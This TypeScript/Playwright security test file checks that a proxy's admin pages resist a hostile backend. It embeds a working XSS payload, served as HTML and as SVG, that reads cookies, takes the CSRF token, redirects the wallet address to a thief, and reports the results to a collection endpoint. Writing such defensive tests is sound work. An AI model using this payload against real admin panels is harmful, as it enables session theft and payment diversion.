import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { freePort } from '../e2e/world.ts'
import { closeVisitors, openVisitor } from './browser.ts'
import { type Standalone, startStandalone } from './standalone.ts'

const ADMIN_TOKEN = 'the-operator-token-of-this-test'
const OURS = `0x${'11'.repeat(20)}`
const THIEF = `0x${'66'.repeat(20)}`

/** What a hostile page tries, as soon as the operator opens it; `pages` is where the operator's pages are. */
const attackOn = (pages: string): string => `(async () => {
  document.documentElement.setAttribute('ran', 'yes')
  const told = (what) => fetch('/site/told?' + new URLSearchParams(what))
  const state = { ran: '1', cookie: document.cookie }
  try {
    const ask = (path, init = {}) => fetch(${JSON.stringify(pages)} + path, { credentials: 'include', ...init })
    const session = await (await ask('/admin/api/session')).json()
    state.csrf = session.csrf ?? ''
    const settings = await (await ask('/setup/api/state')).json()
    settings.values.SVC_WALLET_ADDRESS = '${THIEF}'
    const saved = await ask('/setup/api/save', {
      method: 'POST',
      headers: { 'content-type': 'application/json', 'x-csrf-token': session.csrf },
      body: JSON.stringify({ values: settings.values, confirm: true }),
    })
    state.saved = saved.status
  } catch (error) { state.refused = String(error) }
  try { await navigator.serviceWorker.register('/site/sw.js', { scope: '/' }); state.worker = '1' } catch {}
  try { state.opened = String(open(${JSON.stringify(pages)} + '/admin')?.document?.title) } catch {}
  await told(state)
})()`

let backend: Server
let received: Array<{ path: string; cookie: string }>

beforeAll(async () => {
  received = []
  backend = createServer((request, response) => {
    received.push({ path: request.url!, cookie: request.headers.cookie ?? '' })
    const { pathname, searchParams } = new URL(request.url!, 'http://x')
    const attack = attackOn(searchParams.get('pages') ?? '')
    const scripts: Record<string, [string, string]> = {
      '/site/page': ['text/html', `<script>${attack}</script>`],
      '/site/picture': [
        'image/svg+xml',
        `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${attack}]]></script></svg>`,
      ],
      '/site/frame': ['text/html', `<iframe src="${searchParams.get('pages')}/admin"></iframe>`],
      '/site/sw.js': ['text/javascript', 'onfetch = () => {}'],
    }
    const [type, body] = scripts[pathname] ?? ['text/plain', 'noted']
    response.writeHead(200, { 'content-type': type, 'service-worker-allowed': '/' }).end(body)
  })
  await new Promise<void>((listening) => backend.listen(0, '127.0.0.1', listening))
})
afterAll(async () => {
  await closeVisitors()
  backend?.close()
})

const settings = async () => ({
  ADMIN_TOKEN,
  SVC_WALLET_ADDRESS: OURS,
  // Nothing is bought here, so no chain has to answer.
  RPC_URL: `http://127.0.0.1:${await freePort()}`,
  ROUTES: '[{"routeId":"site","method":"GET","path":"/site/:page","free":true}]',
  PROXY_TO_BASE_URL: `http://127.0.0.1:${(backend.address() as AddressInfo).port}`,
})

async function logIn(page: Page, pages: string): Promise<void> {
  await page.goto(`${pages}/admin`)
  await page.getByLabel('Token').fill(ADMIN_TOKEN)
  await page.getByRole('button', { name: 'Log in' }).click()
  await page.getByRole('heading', { name: 'paystile' }).waitFor()
}

describe.each([
  ['on one port', false],
  ['on a port of their own', true],
])('the operator’s pages %s', (_name, split) => {
  let server: Standalone
  let pages: string
  beforeAll(async () => {
    const adminPort = String(await freePort())
    server = await startStandalone({ ...(await settings()), ...(split && { ADMIN_PORT: adminPort }) })
    pages = split ? `http://127.0.0.1:${adminPort}` : server.url
  })
  afterAll(() => server?.stop())

  test.each(['page', 'picture'])('attack 40: a hostile %s of the backend does nothing', async (kind) => {
    const { page, close } = await openVisitor()
    await logIn(page, pages)
    received.length = 0
    // Scripts begin to run before the load event, which this waits for.
    await page.goto(`${server.url}/site/${kind}?pages=${split ? pages : ''}`)
    const ran = await page.evaluate('document.documentElement.getAttribute("ran")')
    const told = () => received.filter(({ path }) => path.startsWith('/site/told')).map(({ path }) => path)
    if (ran !== null) await expect.poll(told).not.toEqual([])
    expect([ran, told()], 'no script of it runs').toEqual([null, []])
    expect(JSON.stringify(received)).not.toContain('svc_admin')
    const catalog = (await (await fetch(`${server.url}/discover`)).json()) as { walletAddress: string }
    expect(catalog.walletAddress).toBe(OURS)
    // The operator is still logged in, and nothing of it was in reach.
    await page.goto(`${pages}/admin`)
    await page.getByRole('heading', { name: 'paystile' }).waitFor()
    await close()
  })

  test('attack 40: it cannot show the operator’s pages in a frame', async () => {
    const { page, close } = await openVisitor()
    await logIn(page, pages)
    await page.goto(`${server.url}/site/frame?pages=${split ? pages : ''}`)
    // The browser shows a page of its own in its place.
    const shown = () => page.mainFrame().childFrames()[0]?.url()
    await expect.poll(shown).toMatch(/^chrome-error:/)
    await close()
  })
})
